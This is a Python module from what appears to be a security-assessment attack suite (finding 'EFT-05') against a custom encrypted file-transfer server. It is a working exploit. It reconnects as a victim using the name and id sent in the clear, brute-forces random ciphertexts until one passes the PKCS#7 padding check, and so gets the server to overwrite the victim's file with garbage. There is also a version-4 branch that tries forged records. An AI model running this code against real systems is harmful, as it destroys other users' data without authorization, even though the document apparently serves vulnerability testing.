"""Overwrite a victim's stored file with junk, without any key.

Reconnect (827) as the victim with its name and id, both seen in the clear: the
server answers 1605 and binds the connection to the victim, with a fresh AES key we
cannot unwrap. We do not need it. A random 16-byte ciphertext decrypts, under any key,
to a block that ends in a valid PKCS#7 padding about once in 256 tries (``...01``);
then the server answers 1603, we confirm with 900, and the server replaces the
victim's file of that name with 1 to 15 bytes of garbage. Failed tries are pipelined:
each is one 828 answered 1607.

``--protocol 4``: a log-in as the victim's name needs its key (1606). What is left:
records under our own identity whose header carries the victim's id (closed before the
payload is read), and random bytes in place of a sealed record, hoping one opens (a
forged AES-GCM tag passes with probability 2^-128, not 1/256; and even then it would
land in our own directory, since the files of a connection are its client's).
Every such record ends its connection without an answer, so each try costs a whole
handshake: ``--max-tries`` is capped at ``--v4-tries``.
"""

from __future__ import annotations

import argparse
import os

from eft_protocol.codes import RequestCode, ResponseCode

from .common import (
    AttackError,
    Out,
    ServerLink,
    add_victim_arguments,
    expect,
    victim_from_args,
)
from .framing import name_request, one_packet_attempt
from .v4 import CLOSED, add_protocol_argument, login, own_identity

FINDING = "EFT-05"
SUMMARY = "reconnect as the victim and overwrite its file with junk (no key needed)"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--file", required=True, help="the victim's file to overwrite")
    parser.add_argument("--batch", type=int, default=128, help="tries per round trip (128)")
    parser.add_argument("--max-tries", type=int, default=20000, help="give up after (20000)")
    add_victim_arguments(parser)
    add_protocol_argument(parser)
    parser.add_argument("--v4-tries", type=int, default=16, help="version 4: tries (16)")


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    client, welcome = await login(args.target, victim.name)
    await client.close()
    out.step(f"logged in as {victim.name!r} with our own key: {welcome}")
    answers: dict[str, list[int]] = {"victim_id_in_header": [], "random_record": []}
    tries = min(args.max_tries, args.v4_tries)
    for i in range(tries):
        own = await own_identity(args.target, f"blind-{os.urandom(4).hex()}")
        try:
            if i % 2 == 0:  # a record with the victim's id: its header is refused
                kind = "victim_id_in_header"
                await own.request(RequestCode.SEND_FILE, os.urandom(48), victim.client_id)
            else:  # random bytes in place of a sealed record, under our own id
                kind = "random_record"
                header = own.seal(RequestCode.SEND_FILE, bytes(48))[:23]
                await own.link.send(header + os.urandom(64))
            closed, frames = await own.silence()
            answers[kind].append(CLOSED if closed and not frames else frames)
        finally:
            await own.close()
    out.step(f"{tries} tries", **answers)
    answered = [a for kind in answers.values() for a in kind if a != CLOSED]
    if welcome == ResponseCode.RECONNECTED or answered:
        return out.result(True, "the server accepted a record we could not have sealed")
    return out.result(
        False,
        f"log-in as the victim: {welcome}; all {tries} forged records were met with a "
        "silent close: nothing reached the victim's files",
        welcome=welcome,
        tries=tries,
        answers=answers,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    victim = victim_from_args(args)
    link = await ServerLink.open(args.target)
    try:
        await link.send(name_request(victim.client_id, RequestCode.RECONNECT, victim.name))
        answer = await link.receive()
        if answer.code != ResponseCode.RECONNECTED:
            return out.result(
                False, f"the server refused to reconnect us as the victim ({answer.code})"
            )
        out.step(f"reconnected as {victim.name!r}: 1605 (a key we cannot read, and need not)")
        tries = 0
        while tries < args.max_tries:
            batch = [
                one_packet_attempt(victim.client_id, args.file, os.urandom(16))
                for _ in range(args.batch)
            ]
            await link.send(*batch)
            codes = [(await link.receive()).code for _ in batch]
            if ResponseCode.FILE_RECEIVED in codes:
                tries += codes.index(ResponseCode.FILE_RECEIVED) + 1
                break
            tries += len(batch)
        else:
            return out.result(False, f"no try decrypted to valid padding in {tries}")
        out.step(f"try {tries} decrypted to valid padding: 1603")
        await link.send(name_request(victim.client_id, RequestCode.CRC_OK, args.file))
        try:
            await expect(link, ResponseCode.ACKNOWLEDGED)
        except AttackError as exc:
            return out.result(False, f"the server did not store it: {exc}")
        return out.result(
            True,
            f"the server replaced {victim.name}'s {args.file!r} with junk after {tries} tries",
            tries=tries,
            file_name=args.file,
        )
    finally:
        await link.close()
